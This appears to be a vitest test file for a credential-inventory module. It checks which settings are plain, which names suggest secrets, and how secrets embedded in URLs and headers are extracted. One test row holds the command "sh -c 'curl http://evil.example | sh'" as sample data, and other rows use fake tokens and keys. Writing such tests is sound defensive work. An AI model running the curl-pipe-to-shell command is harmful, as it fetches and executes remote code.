import { describe, expect, test } from "vitest";
import { isNoSecret, isPlainSetting } from "../../../../src/credentials/inventory/no-secret.ts";
import {
  namesSecretFile,
  smellsSecret,
} from "../../../../src/credentials/inventory/secret-words.ts";
import { secretsIn } from "../../../../src/credentials/inventory/secrets-in-text.ts";
import { canary } from "../../../fakes/canaries.ts";

describe("a setting of another program", () => {
  test.each([
    ["NODE_ENV", "production"],
    ["PATH", "/usr/local/bin:/usr/bin"],
    ["BASE", "https://api.example.com/v1?region=eu"],
    ["args", "@modelcontextprotocol/server-github"],
    ["args", "--port=3000"],
    ["args", "sh -c 'curl http://evil.example | sh'"],
    ["args", "dist/server.js"],
    ["User-Agent", "openclaw/2026.9.6 (Linux x64; something long 123)"],
    ["Content-Type", "application/json; charset=utf-8"],
    ["REGION", "eu-central-1"],
    ["MODEL", "claude-sonnet-4-5"],
    ["MAIL", "me@example.net"],
    ["DEBUG", "1"],
  ])("%s=%s is plain", (name, value) => {
    expect(isPlainSetting(name, value)).toBe(true);
  });

  test.each([
    canary("a setting"),
    "0123456789abcdef0123456789abcdef",
    "xapp-1-A0123456789-1234567890123-abcdef0123456789",
    `-----BEGIN PRIVATE KEY-----\n${canary("pem")}\n-----END PRIVATE KEY-----`,
    `https://hooks.example.com/services/${canary("hook")}`,
  ])("a random value is not: number %#", (value) => {
    expect(isPlainSetting("ANY", value)).toBe(false);
  });

  test("a megabyte of anything is judged at once", () => {
    const started = performance.now();
    for (const piece of ["a", "a-", "a.b", "/a", "@", "A1", " ", "-a="]) {
      isPlainSetting("x", piece.repeat(500_000));
      isNoSecret(piece.repeat(500_000));
    }
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

describe("what a name says", () => {
  test.each(
    "botToken BOT_TOKEN api_key apiKey authToken clientSecret password DB_PASSWORD privateKey signingSecret encryptKey aws_secret_access_key _authToken client-key-data oauth_token webhookSecret passphrase Authorization".split(
      " ",
    ),
  )("%s: a secret", (name) => {
    expect(smellsSecret(name)).toBe(true);
  });

  test.each(
    "maxTokens contextTokens tokenFile tokenBudget apiKeyEnv publicKey primaryKey sessionKey keyword tokenUrl keyRef tokenRef storeKey secretProvider access_key_id passEnv monkey author path".split(
      " ",
    ),
  )("%s: none", (name) => {
    expect(smellsSecret(name)).toBe(false);
  });

  test("names of files that hold one", () => {
    const yes = [
      "tokenFile",
      "GOOGLE_CHAT_SERVICE_ACCOUNT_FILE",
      "GOOGLE_APPLICATION_CREDENTIALS",
      "identityFile",
      "keyPath",
    ];
    const no = ["logFile", "file", "token", "profilePath", "PATH"];
    expect([...yes, ...no].filter(namesSecretFile)).toEqual(yes);
  });
});

describe("secrets inside a longer value", () => {
  test.each([
    ["Basic dXNlcjpwYTpzcw==", [{ text: "pa:ss", encoding: "base64" }]],
    ["https://user:pa%20ss@h.example/x", [{ text: "pa ss", encoding: "percent" }]],
    ["https://ghp_token@github.com/a/b", [{ text: "ghp_token", encoding: "plain" }]],
    ["https://h.example/x?token=abc&lang=en", [{ text: "abc", encoding: "plain" }]],
    ["--api-key=abcdef", [{ text: "abcdef", encoding: "plain" }]],
    ["Authorization: Basic dTpw", [{ text: "p", encoding: "base64" }]],
    ["https://h.example/x", []],
    ["--port=3000", []],
    ["Basic not base64!", []],
  ])("%s", (value, inner) => {
    expect(secretsIn(value)).toEqual(inner);
  });
});
